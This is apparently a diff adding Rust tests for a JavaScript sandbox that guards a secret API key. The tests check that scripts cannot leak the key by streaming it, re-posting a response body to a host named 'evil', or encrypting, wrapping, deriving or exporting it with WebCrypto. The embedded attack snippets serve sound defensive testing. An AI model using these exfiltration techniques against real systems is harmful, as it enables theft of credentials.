@@ -218,3 +218,62 @@ fn nothing_but_the_web_is_reached() {
         refused("an address within IPv6", "await fetch('http://[::ffff:127.0.0.1]:1/');", NOT_GRANTED),
     ]);
 }
+
+const PIECES: &str = "const decoder = new TextDecoder(); let text = '';
+    for await (const piece of (await fetch(config.raw_url + '/split')).body) text += decoder.decode(piece, {stream: true});";
+
+#[test]
+fn no_stream_takes_a_secret_apart() {
+    let rows = |name: &'static str, end: &str, told: &'static str| {
+        ends(name, Box::leak(format!("{PIECES}\n{end}").into_boxed_str()), Ok(told))
+    };
+    run(&[
+        rows("its pieces", "return [{v: text}];", "***"),
+        rows("read as JSON", "const v = JSON.parse(text); return [{v: [v.plain === config.api_key, v.base64.length, v.hex === v.plain].join()}];", "true,40,true"),
+        ends("whole", "const v = await (await fetch(config.raw_url + '/split')).json(); return [{v: String(v.plain === config.api_key)}];", Ok("true")),
+        ends(
+            "by two readers",
+            "const r = await fetch(config.raw_url + '/split'); const c = r.clone(); const [a, b] = await Promise.all([r.text(), c.text()]); return [{v: String(a === b && a.includes(config.api_key))}];",
+            Ok("true"),
+        ),
+        ends(
+            "letter by letter",
+            "const reader = (await fetch(config.raw_url + '/split')).body.getReader(); const letters = [];
+             while (true) { const {value, done} = await reader.read(); if (done) break; letters.push(...value); }
+             return letters.map(letter => ({v: String.fromCharCode(letter)}));",
+            Ok("\"v\""),
+        ),
+        ends(
+            "sent on as a stream",
+            "const r = await fetch(config.raw_url + '/split');
+             try { await fetch(evil, {method: 'POST', body: r.body, duplex: 'half'}); return [{v: 'sent'}]; } catch (error) { return [{v: 'refused'}]; }",
+            Ok("refused"),
+        ),
+    ]);
+}
+
+#[test]
+fn no_key_takes_a_secret_along() {
+    const OWN: &str = "const {subtle} = crypto, bytes = new TextEncoder().encode(config.api_key), iv = new Uint8Array(12), how = {name: 'AES-GCM', iv};
+        const own = await subtle.importKey('raw', new Uint8Array(16), 'AES-GCM', true, ['encrypt', 'decrypt', 'wrapKey', 'unwrapKey']);";
+    let case = |name: &'static str, body: &str, told: &'static str| {
+        refused(name, Box::leak(format!("{OWN}\n{body}").into_boxed_str()), told)
+    };
+    run(&[
+        case("encrypted with a known key", "const sealed = await subtle.encrypt(how, own, bytes); return [{v: new TextDecoder().decode(await subtle.decrypt(how, own, sealed))}];", "a secret is not encrypted"),
+        case("as additional data", "await subtle.encrypt({...how, additionalData: bytes}, own, iv);", "a secret is not encrypted"),
+        case("as the iv", "await subtle.encrypt({name: 'AES-GCM', iv: bytes}, own, iv);", "12 bytes|a secret is not encrypted"),
+        case("decrypted", "await subtle.decrypt(how, own, bytes);", "a secret is not decrypted"),
+        case("exported", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.exportKey('raw', key);", "not extractable"),
+        case("exported as JWK", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.exportKey('jwk', key);", "not extractable"),
+        case("wrapped", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.wrapKey('raw', key, own, how);", "not extractable"),
+        case(
+            "derived and exported",
+            "const base = await subtle.importKey('raw', bytes, 'PBKDF2', false, ['deriveKey']);
+             const key = await subtle.deriveKey({name: 'PBKDF2', hash: 'SHA-256', salt: iv, iterations: 1}, base, {name: 'AES-GCM', length: 128}, true, ['encrypt']);
+             await subtle.exportKey('raw', key);",
+            "not extractable",
+        ),
+        case("signed and asked back", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); key.extractable = true; await subtle.exportKey('raw', key);", "TypeError|not extractable"),
+    ]);
+}
